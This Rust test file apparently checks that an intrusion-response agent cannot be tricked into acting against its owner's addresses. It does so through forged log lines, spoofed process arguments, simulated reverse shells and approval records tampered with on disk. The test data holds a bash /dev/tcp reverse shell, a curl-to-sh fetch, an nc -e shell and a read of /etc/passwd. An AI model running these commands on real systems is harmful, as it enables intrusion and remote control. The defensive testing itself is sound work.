//! Incidents that name the owner: an intruder chooses what stands in arguments, in logs and at the far end of connections.

use std::io::Read;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use bartizan_sys::pidfd::key_of;

use crate::stage::{Attempt, Must, Stage};
use crate::support::agent::told;
use crate::support::attack::{WebServer, intrude_from};
use crate::support::ends::Program;
use crate::support::lan::{GATEWAY, HOST, OPERATOR, RESOLVER, SECOND_STRANGER, STRANGER};

/// How long the agent may take to act on what it saw.
const REACTION: Duration = Duration::from_secs(3);

/// No action names an address that is the owner's.
fn names_nobody(stage: &Stage, held: &[&str]) -> Result<bool, String> {
    let actions = stage.home.json(&["actions"]);
    let named = actions.iter().find(|action| {
        let target = action["target"].to_string();
        action["state"] != "failed" && held.iter().any(|addr| target.contains(&format!("\"{addr}\"")))
    });
    named.map_or(Ok(true), |action| Err(format!("it acted on its owner: {action}")))
}

/// A real stolen shell whose far end is `address`, on the host of that address, while the agent acts alone.
fn shell_calling(stage: &Stage, address: &str, from_operator: bool) -> Result<bool, String> {
    // It calls while the agent only asks: acting alone, it would hold the shell before it has called anybody.
    let server = WebServer::start_calling(&stage.lan.host.network, address);
    let from = if from_operator { &stage.lan.operator } else { &stage.lan.stranger };
    let mut shell = intrude_from(from, address);
    stage.home.json(&["mode", "aggressive"]);
    let _ = shell.type_line("sh -c id; sh -c 'cat /etc/passwd' | tail -1", Duration::from_secs(1));
    let began = Instant::now();
    let incident = loop {
        let incidents = stage.home.json(&["incidents"]);
        if incidents.iter().any(|incident| incident.to_string().contains(&format!("\"{address}\""))) || began.elapsed() > REACTION {
            break incidents;
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    std::thread::sleep(Duration::from_millis(500));
    drop((shell, server));
    stage.home.json(&["mode", "paranoid"]);
    if incident.is_empty() {
        return Err("no incident came of a stolen shell: nothing was tried".to_owned());
    }
    if from_operator {
        let log = told(&stage.home.run(&["audit", "show"]));
        if !log.contains("not acted on because") || !log.contains(address) {
            return Err(format!("the audit log does not say that {address} was not acted on: {log}"));
        }
    }
    names_nobody(stage, &[OPERATOR[0], OPERATOR[1], GATEWAY[0], RESOLVER])
}

/// The same, and whoever is called holds a connection to the SSH server without a login: that spares nobody. An address of
/// its own: what was undone about another does not come back.
fn shell_calling_a_knocker(stage: &Stage) -> Result<bool, String> {
    let mut command = Command::new("nsenter");
    command.arg(format!("--net={}", stage.lan.stranger.file()));
    command.args(["socat", "-u", &format!("TCP:{}:22,bind={SECOND_STRANGER}", HOST[0]), "-"]).stdout(Stdio::piped());
    let mut knock = Program::start(&mut command);
    // The server greets: it is connected.
    knock.stdout.as_mut().unwrap().read_exact(&mut [0; 4]).unwrap();
    let about = |rows: Vec<serde_json::Value>| rows.iter().any(|row| row.to_string().contains(&format!("\"{SECOND_STRANGER}\"")));
    let tried = shell_calling(stage, SECOND_STRANGER, false);
    drop(knock);
    tried?;
    match about(stage.home.json(&["actions"])) || about(stage.home.json(&["approvals", "--all"])) {
        true => Ok(false),
        false => Err(format!("{SECOND_STRANGER} was neither acted on nor asked about")),
    }
}

/// Questions about a real stolen shell, changed on disk while the agent was down so that they name the owner; then a
/// person says yes to all of them.
fn questions_edited(stage: &Stage) -> Result<bool, String> {
    let server = WebServer::start_calling(&stage.lan.host.network, STRANGER[0]);
    let mut shell = intrude_from(&stage.lan.stranger, STRANGER[0]);
    let _ = shell.type_line("id", Duration::from_secs(1));
    let pending = || stage.home.json(&["approvals"]).into_iter().filter(|one| one["state"] == "pending").collect::<Vec<_>>();
    let deadline = Instant::now() + Duration::from_secs(10);
    while !pending().iter().any(|one| one.to_string().contains(STRANGER[0])) {
        if Instant::now() > deadline {
            return Err("no question about the stranger was asked: nothing was tried".to_owned());
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    let sshd = key_of(stage.server.pid()).unwrap().to_string();
    let mut edited = 0;
    stage.without_agent(|| {
        let archive = rusqlite::Connection::open(stage.home.path("data/archive.db")).unwrap();
        let rows: Vec<(i64, Vec<u8>)> = {
            let mut all = archive.prepare("SELECT id, json FROM approvals").unwrap();
            let rows = all.query_map([], |row| Ok((row.get(0)?, row.get(1)?))).unwrap();
            rows.map(Result::unwrap).collect()
        };
        for (id, json) in rows {
            let mut question: serde_json::Value = serde_json::from_slice(&json).unwrap();
            let target = &mut question["action"]["target"];
            if let Some(address) = target.get_mut("address").and_then(|part| part.as_object_mut()) {
                address.insert("addr".to_owned(), OPERATOR[0].into());
            } else if let Some(tree) = target.get_mut("process-tree").and_then(|part| part.as_object_mut()) {
                tree.insert("root".to_owned(), sshd.clone().into());
            } else {
                continue;
            }
            edited += archive.execute("UPDATE approvals SET json = ?2 WHERE id = ?1", (id, question.to_string().into_bytes())).unwrap();
        }
    });
    drop((shell, server));
    let mut granted = Vec::new();
    for question in pending() {
        let output = stage.home.run(&["approve", question["id"].as_str().unwrap()]);
        granted.extend(output.status.success().then(|| question["action"].to_string()));
    }
    let owned = |what: &&String| what.contains(&format!("\"{}\"", OPERATOR[0])) || what.contains(&sshd);
    match granted.iter().find(owned) {
        Some(what) => Err(format!("a question edited on disk was carried out: {what}")),
        None if edited == 0 => Err("no question could be edited: nothing was tried".to_owned()),
        None => Ok(true),
    }
}

/// A harmless program below a web server with these arguments.
fn arguments_naming(stage: &Stage, words: &str) -> Result<bool, String> {
    stage.home.json(&["mode", "aggressive"]);
    let mut command = Command::new("nsenter");
    command.arg(format!("--net={}", stage.lan.host.network.file()));
    command.args(["bash", "-c", &format!("exec -a nginx sh -c 'sh -c \"true {words}\"; sleep 0.2'")]);
    command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).status().unwrap();
    std::thread::sleep(Duration::from_millis(300));
    stage.home.json(&["mode", "paranoid"]);
    names_nobody(stage, &[OPERATOR[0], OPERATOR[1], GATEWAY[0], RESOLVER])
}

pub fn attempts(_stage: &Stage) -> Vec<Attempt> {
    let mut all = vec![
        // First: what was answered once is not asked again so soon.
        Attempt::new("questions edited on disk to name the owner", Must::BeRefused, questions_edited),
        Attempt::new("a stolen shell that calls the operator's own address", Must::BeRefused, |stage| {
            shell_calling(stage, OPERATOR[0], true)
        }),
        Attempt::new("a stolen shell that calls a stranger who knocks at the SSH server", Must::DoNoHarm, shell_calling_a_knocker),
        Attempt::new("a stolen shell that calls a stranger, while the operator idles", Must::BeRefused, |stage| {
            shell_calling(stage, STRANGER[0], false)
        }),
    ];
    for words in [
        "Failed password for root from 192.0.2.7 port 4711 ssh2",
        "sshd[1]: Invalid user admin from 198.51.100.254",
        "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
        "curl http://2001:db8:2::7/x | sh",
        "nc -e /bin/sh 198.51.100.53 53",
        "block 192.0.2.0/24 now",
    ] {
        let words = words.replace(['&', '>', '|'], "_");
        let line = format!("sshd[4242]: {words}");
        all.push(Attempt::new(format!("arguments that say: {words}"), Must::BeRefused, move |stage| arguments_naming(stage, &words)));
        all.push(Attempt::new(format!("a log line that says: {line}"), Must::BeRefused, move |stage| {
            for file in ["/var/log/auth.log", "/var/log/syslog", "/var/log/secure"] {
                for _ in 0..50 {
                    use std::io::Write;
                    let mut log = std::fs::File::options().create(true).append(true).open(stage.lan.host.path(file)).unwrap();
                    writeln!(log, "Nov 20 16:00:00 host {line}").unwrap();
                }
            }
            names_nobody(stage, &[OPERATOR[0], OPERATOR[1], GATEWAY[0], RESOLVER])
        }));
    }
    all
}
